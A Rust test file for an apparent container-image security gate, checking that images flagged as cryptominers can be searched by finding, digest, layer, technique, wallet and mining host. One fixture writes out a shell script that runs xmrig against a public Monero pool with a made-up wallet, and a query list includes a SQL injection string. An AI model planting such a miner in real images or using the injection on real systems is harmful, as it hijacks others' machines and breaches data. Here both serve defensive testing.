//! One box for everything that somebody asks about.
use super::{Browser, gate, pushed, with_file};
use test_support::story;

#[test]
fn an_image_is_found_by_what_its_report_names() {
    let folder = tempfile::tempdir().unwrap();
    let (gate, admin) = gate(folder.path(), "");
    let miner = story::five_images().remove(0).image;
    let standing = pushed(&gate, &admin, "held/miner", "1", &miner);
    pushed(&gate, &admin, "held/other", "1", &super::clean("other"));
    let (_, report) = gate.ask(
        reqwest::Method::GET,
        &format!("/api/v1/image/report?repository=held/miner&digest={}", miner.digest()),
        &admin,
        None,
    );
    let browser = Browser::of(&gate, "admin");
    let check = |query: &str, what: &str| {
        let page = browser.page(&format!("/console/search?q={}", super::encoded(query)));
        assert!(page.contains(miner.digest()), "{query}: {page}");
        assert!(page.contains(what), "{query} {what}: {page}");
        assert!(!page.contains("held/other"), "{query}: {page}");
    };
    let findings = report["findings"].as_array().unwrap();
    assert!(!findings.is_empty(), "{standing}");
    let first = &findings[0];
    check(first["id"].as_str().unwrap(), "finding");
    check(&first["id"].as_str().unwrap().to_lowercase(), "finding");
    check(miner.digest(), "digest");
    check(&miner.digest()[7..15], "digest");
    check("held/miner", "repository");
    check("miner", "repository");
    let layer = report["image"]["layers"].as_array().unwrap().last().unwrap()["digest"].as_str().unwrap();
    check(layer, "layer");
    check(&layer[7..17].to_uppercase(), "layer");
    let techniques = findings.iter().flat_map(|finding| finding["techniques"].as_array().unwrap());
    let technique = techniques.map(|one| one.as_str().unwrap()).next().unwrap();
    check(technique, "technique");
    check(technique.split('.').next().unwrap(), "technique");
    let evidence = |kinds: &[&str]| {
        let all = findings.iter().flat_map(|finding| finding["evidence"].as_array().unwrap());
        let mut of_kind = all.filter(|piece| kinds.contains(&piece["kind"].as_str().unwrap()));
        of_kind.next().map(|piece| piece["value"].as_str().unwrap().to_owned())
    };
    if let Some(wallet) = evidence(&["wallet"]) {
        check(wallet.rsplit(' ').next().unwrap(), "wallet");
    }
    let content = findings.iter().find_map(|finding| finding["content"].as_str()).unwrap();
    check(content, "hash of a file");
    for query in ["nothing at all", "zzzz", "%", "_", "' OR 1=1 --", "sha256:", &"a".repeat(10_000)] {
        let page = browser.page(&format!(
            "/console/search?q={}",
            &super::encoded(query)[..super::encoded(query).len().min(3000)]
        ));
        assert!(!page.contains(miner.digest()), "{query}: {page}");
    }
}

#[test]
fn a_host_and_a_wallet_of_a_miner_are_found() {
    let folder = tempfile::tempdir().unwrap();
    let (gate, admin) = gate(folder.path(), "");
    let wallet = format!("4{}", "A1b2C3d4E5f6G7h8J9k".repeat(5));
    let script = format!(
        "#!/bin/sh\nexec xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {wallet} -p x --donate-level 1\n"
    );
    let image = with_file("app/serve", script.into_bytes());
    pushed(&gate, &admin, "held/miner", "1", &image);
    let browser = Browser::of(&gate, "admin");
    let page = browser.page("/console/search?q=pool.supportxmr.com");
    assert!(page.contains(image.digest()) && page.contains("host"), "{page}");
    let page = browser.page("/console/search?q=POOL.SupportXMR.com");
    assert!(page.contains(image.digest()), "{page}");
}
